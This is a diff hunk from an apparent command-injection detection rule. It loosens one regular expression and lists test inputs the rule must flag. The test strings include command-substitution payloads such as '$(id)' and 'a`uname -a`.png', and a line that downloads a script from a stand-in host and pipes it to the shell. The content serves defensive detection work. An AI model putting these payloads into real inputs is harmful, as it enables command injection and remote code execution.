@@ -17,7 +17,7 @@ export const substitution = defineRule({
     new RegExp(`\\w\`${certain}`, 'i'),
     new RegExp(`[<>]\\(\\s{0,4}${certain}`, 'i'),
     /\w\$\(\)\w|\w``\w|\w\$@\w|\w`\w{2,10} \w{1,10}`\w/,
-    new RegExp(`^\\w{3,20}(?:_\\w{1,20})* \`${command}[^\`]{0,80}\`$`, 'i'),
+    new RegExp(`^\\w{3,60} \`${command}[^\`]{0,80}\`$`, 'i'),
   ],
   hits: ['$(id)', '`whoami`', 'a`uname -a`.png', 'who$()ami', '$(curl http://x.example/y|sh)', 'x`id`'],
   misses: [
